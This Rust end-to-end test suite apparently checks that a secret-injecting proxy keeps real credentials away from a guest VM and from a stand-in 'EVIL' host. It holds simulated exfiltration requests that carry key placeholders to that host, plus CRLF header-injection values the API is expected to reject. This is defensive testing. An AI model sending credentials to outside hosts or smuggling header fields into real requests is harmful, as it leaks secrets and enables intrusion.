//! Secrets: whatever a server hands back, `*` with `warn`, clear text, placeholders in every place and shape, and changes while
//! the VM runs.

use super::{
    field::{Event, Field, Real, latin, on_field, the_attacker_sees_what_comes},
    wire::{Offer, connect, https, tcp},
};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::json;
use std::{
    io::{Read as _, Write as _},
    net::SocketAddr,
};
use tapgate_e2e::{
    server::HAND_BACK_WAYS,
    sites::{API, ECHO, EVIL, OTHER, Site},
};

/// With octets that JSON, URLs and HTML write otherwise.
const VALUE: &str = "sk-live/4f9a+2be0&7d5c<4183=e6b9";
const SECOND: &str = "ghp-second-e81c05d7a3b64f92";
const ANYWHERE: &str = "any-where-6b3d9f10c27e4a58";
const NAMED: &str = "named-hosts-90d2f7e4ab1c3586";
const REALS: &[Real] = &[
    Real { value: VALUE, sites: &[ECHO] },
    Real { value: SECOND, sites: &[ECHO] },
    Real { value: ANYWHERE, sites: &[ECHO] },
    Real { value: NAMED, sites: &[ECHO] },
];

fn tls(site: Site) -> SocketAddr {
    (site.v4, 443).into()
}

fn request(site: Site, path: &str, fields: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n{fields}\r\n", site.name).into_bytes()
}

/// The fields of the requests that the site got since then.
fn fields_of(journal: &tapgate_e2e::journal::Journal, site: Site) -> String {
    let seen = journal.http(site.name).unwrap();
    seen.iter().map(|entry| format!("{} {}\n", entry["headers"], entry["basic"])).collect()
}

#[test]
fn no_value_comes_back_or_goes_elsewhere() {
    on_field(REALS, |field| {
        field.api().rule("host", ECHO.name).unwrap();
        field.api().rule("host", EVIL.name).unwrap();
        let key = field.api().secret("key", "KEY", VALUE, &[ECHO.name]).unwrap();
        handed_back(field, &key);
        elsewhere(field, &key);
        two_for_one_host(field, &key);
        placeholders(field, &key);
        what_api_refuses(field);
        while_it_runs(field);
        any_host_in_warn(field);
        let seen = field.kept_by(EVIL);
        field.check(seen.contains(&key), || "the attacker never got even the placeholder".into());
        the_attacker_sees_what_comes(field);
    });
}

/// An echo, an error page, a redirect, a cookie, every coding and spelling: over HTTP/1.1 and HTTP/2, in TLS and in clear text.
fn handed_back(field: &mut Field<'_>, key: &str) {
    let ways = HAND_BACK_WAYS.iter().map(|way| format!("/hand-back/{way}"));
    for path in ways.chain(["/echo".to_owned()]) {
        let bytes = request(ECHO, &path, &format!("X-Key: {key}\r\nTE: trailers\r\n"));
        let passed = [Event::Passed("host")];
        let journal = field.world().journal().mark();
        let what = format!("{path} over HTTP/1.1");
        let got = field.attempt(&what, &passed, || https(tls(ECHO), ECHO.name, &bytes));
        field.check(got.starts_with(b"HTTP/1.1 "), || format!("{what}: {}", latin(&got)));
        let what = format!("{path} in clear text");
        let got = field.attempt(&what, &passed, || tcp((ECHO.v4, 80), &bytes));
        field.check(got.starts_with(b"HTTP/1.1 "), || format!("{what}: {}", latin(&got)));
        let sent = fields_of(&journal, ECHO).matches(VALUE).count();
        field.check(sent == 2, || format!("{path}: the value went out {sent} times of 2"));
        // curl undoes codings and HPACK, so that what it prints is what the guest's program would see.
        let url = format!("https://{}{path}", ECHO.name);
        let what = format!("{path} over HTTP/2");
        let script = format!("curl -sS -i --compressed --http2 --max-time 20 -H 'X-Key: {key}' {url}");
        let done = field.stage.sh(&script).unwrap();
        field.check(done.ok() && done.out.starts_with("HTTP/2 "), || format!("{what}: {done:?}"));
        field.check(!done.out.contains(VALUE), || format!("{what}: the guest received the value"));
        let back = !["base64", "basic", "pieces"].iter().any(|way| path.ends_with(way));
        let back = back && !path.ends_with("reason");
        field
            .check(!back || done.out.contains(key), || format!("{what}: not even the placeholder: {done:?}"));
        field.expect_events(&what, &passed);
    }
}

/// A server that the rules allow and the secret is not for; a field of every kind; the target and the body of a request.
fn elsewhere(field: &mut Field<'_>, key: &str) {
    let basic = STANDARD.encode(format!("user:{key}"));
    let fields = format!(
        "X-Key: {key}\r\nAuthorization: Basic {basic}\r\nCookie: k={key}\r\nReferer: https://{}/?{key}\r\nX-Forwarded-Host: {}\r\n",
        ECHO.name, ECHO.name
    );
    let bytes = request(EVIL, &format!("/?k={key}"), &fields);
    for what in ["an allowed host that the secret is not for", "the same in clear text"] {
        let journal = field.world().journal().mark();
        field.attempt(what, &[Event::Passed("host")], || match what.contains("clear") {
            true => tcp((EVIL.v4, 80), &bytes),
            false => https(tls(EVIL), EVIL.name, &bytes),
        });
        let got = fields_of(&journal, EVIL);
        field.check(got.contains(key) && got.contains(&format!("user:{key}")), || format!("{what}: {got}"));
    }
    let body = format!("k={key}");
    let bytes = format!(
        "POST /echo?k={key} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
        ECHO.name,
        body.len()
    );
    let journal = field.world().journal().mark();
    field.attempt("a target and a body", &[Event::Passed("host")], || {
        https(tls(ECHO), ECHO.name, bytes.as_bytes())
    });
    let seen = journal.http(ECHO.name).unwrap();
    let whole = seen.iter().map(ToString::to_string).collect::<String>();
    field.check(whole.contains(key) && !whole.contains(VALUE), || format!("a target and a body: {whole}"));
}

/// Two secrets for one host both go in; so do two rules for it, of which one is taken away.
fn two_for_one_host(field: &mut Field<'_>, key: &str) {
    let second = field.api().secret("second", "SECOND", SECOND, &["*.example.com"]).unwrap();
    let rule = field.api().rule("host", "*.example.com").unwrap();
    let bytes = request(
        ECHO,
        "/echo",
        &format!("X-Key: {key}\r\nX-Second: {second}\r\nX-Both: {second}{key} {key}, {second}\r\n"),
    );
    for what in ["two secrets for one host", "the same when one of its two rules is gone"] {
        let journal = field.world().journal().mark();
        field.attempt(what, &[Event::Passed("host")], || https(tls(ECHO), ECHO.name, &bytes));
        let got = fields_of(&journal, ECHO);
        field.check(got.matches(VALUE).count() >= 2 && got.matches(SECOND).count() >= 2, || {
            format!("{what}: {got}")
        });
        if what.starts_with("two") {
            field.api().remove_rule(&rule).unwrap();
        }
    }
}

/// Prefixes, the same one twice, inside Basic.
fn placeholders(field: &mut Field<'_>, key: &str) {
    let longer = format!("{key}-longer");
    let basic = |pair: String| format!("Authorization: Basic {}\r\n", STANDARD.encode(pair));
    let rows: Vec<(&str, String, String, bool)> = vec![
        ("a longer name", format!("X-Key: {longer}\r\n"), longer.clone(), false),
        ("a name with more letters", format!("X-Key: {key}x\r\n"), format!("{key}x"), false),
        ("letters before it", format!("X-Key: x{key}\r\n"), format!("x{VALUE}"), true),
        ("another case", format!("X-Key: {}\r\n", key.to_lowercase()), key.to_lowercase(), false),
        ("twice", format!("X-Key: {key}, {key}\r\n"), format!("{VALUE}, {VALUE}"), true),
        ("inside Basic", basic(format!("user:{key}")), format!("user:{VALUE}"), true),
        ("as Basic's user", basic(format!("{key}:x")), format!("{VALUE}:x"), true),
        ("a longer name inside Basic", basic(format!("user:{longer}")), format!("user:{longer}"), false),
        ("a field's name", format!("{key}: a\r\n"), key.to_lowercase(), false),
    ];
    for (what, fields, expected, real) in rows {
        let journal = field.world().journal().mark();
        let bytes = request(ECHO, "/echo", &fields);
        field.attempt(what, &[Event::Passed("host")], || https(tls(ECHO), ECHO.name, &bytes));
        let got = fields_of(&journal, ECHO);
        field.check(got.contains(&expected) && got.contains(VALUE) == real, || format!("{what}: {got}"));
    }
}

/// A value that would become a field of its own is none; nor is one that holds another's placeholder.
fn what_api_refuses(field: &mut Field<'_>) {
    for value in ["a\r\nX-Evil: 1", "a\nb", "a\rb", "a\0b", "x IRONSH_PROXY_key y", "IRONSH_PROXY_other"] {
        let secret = json!({ "name": "bad", "secret": value, "env_var": "BAD", "hosts": [ECHO.name] });
        let reply = field.api().post("/v1/secrets", &secret).unwrap();
        field.check((400..500).contains(&reply.status), || format!("{value:?} is a secret: {reply:?}"));
    }
}

/// On a connection that stays open: a secret that is added takes effect at once, and one that is deleted none.
fn while_it_runs(field: &mut Field<'_>) {
    let api = field.api().clone();
    let journal = field.world().journal().mark();
    let placeholder = "IRONSH_PROXY_late";
    let ask = format!("GET /echo HTTP/1.1\r\nHost: {}\r\nX-Key: {placeholder}\r\n\r\n", ECHO.name);
    let seen = || {
        let all = journal.http(ECHO.name).unwrap();
        all.last().map(|entry| entry["headers"].to_string()).unwrap_or_default()
    };
    let mut told = Vec::new();
    field.guest("added and deleted while it runs", || {
        let mut stream = Offer::alpn(&["http/1.1"]).tls(ECHO.name, connect(tls(ECHO)).unwrap()).unwrap();
        let mut all = Vec::new();
        let mut turn = |all: &mut Vec<u8>| {
            stream.write_all(ask.as_bytes()).unwrap();
            let mut got = Vec::new();
            let mut buffer = [0; 4096];
            while !got.windows(3).any(|end| end == b"\n}\n") {
                match stream.read(&mut buffer) {
                    Ok(count @ 1..) => got.extend_from_slice(&buffer[..count]),
                    _ => break,
                }
            }
            all.extend_from_slice(&got);
            seen()
        };
        told.push(turn(&mut all));
        let secret = json!({ "name": "late", "secret": SECOND, "env_var": "LATE", "hosts": [ECHO.name] });
        let made = api.post("/v1/secrets", &secret).unwrap().expect(201).unwrap();
        told.push(turn(&mut all));
        let path = format!("/v1/secrets/{}", made["id"].as_str().unwrap());
        api.delete(&path).unwrap().expect(204).unwrap();
        told.push(turn(&mut all));
        all
    });
    let right: Vec<bool> = told.iter().map(|fields| fields.contains(SECOND)).collect();
    field.check(right == [false, true, false], || format!("before, added, deleted: {told:?}"));
    field.check(told.iter().all(|fields| !fields.is_empty()), || format!("not all were answered: {told:?}"));
    field.expect_events("added and deleted while it runs", &[Event::Passed("host")]);
}

/// `hosts: ["*"]`: no host that `warn` only tolerates gets the value, and none in clear text; of a secret that names the host
/// it is the same in `warn`.
fn any_host_in_warn(field: &mut Field<'_>) {
    let any = field.api().secret("any", "ANY", ANYWHERE, &["*"]).unwrap();
    let named = field.api().secret("named", "NAMED", NAMED, &[OTHER.name, API.name, ECHO.name]).unwrap();
    field.api().mode("warn").unwrap();
    let fields = format!(
        "X-Named: {named}\r\nX-Key: {any}\r\nAuthorization: Basic {}\r\n",
        STANDARD.encode(format!("u:{any}"))
    );
    for site in [API, OTHER] {
        let bytes = request(site, "/", &fields);
        for secure in [true, false] {
            let what = format!("{} in warn, {}", site.name, if secure { "TLS" } else { "clear text" });
            let journal = field.world().journal().mark();
            field.attempt(&what, &[Event::Tolerated("no_rule")], || match secure {
                true => https(tls(site), site.name, &bytes),
                false => tcp((site.v4, 80), &bytes),
            });
            let got = fields_of(&journal, site);
            let placeholders = got.contains(&any) && got.contains(&named);
            let values = got.contains(ANYWHERE) || got.contains(NAMED);
            field.check(placeholders && !values, || format!("{what}: {got}"));
        }
    }
    // Where a rule matches it goes in, but not in clear text.
    let bytes = request(ECHO, "/echo", &fields);
    for secure in [false, true] {
        let what = format!("an allowed host, {}", if secure { "TLS" } else { "clear text" });
        let journal = field.world().journal().mark();
        field.attempt(&what, &[Event::Passed("host")], || match secure {
            true => https(tls(ECHO), ECHO.name, &bytes),
            false => tcp((ECHO.v4, 80), &bytes),
        });
        let got = fields_of(&journal, ECHO);
        field.check(got.contains(ANYWHERE) == secure && got.contains(NAMED), || format!("{what}: {got}"));
    }
    field.api().mode("enforce").unwrap();
}
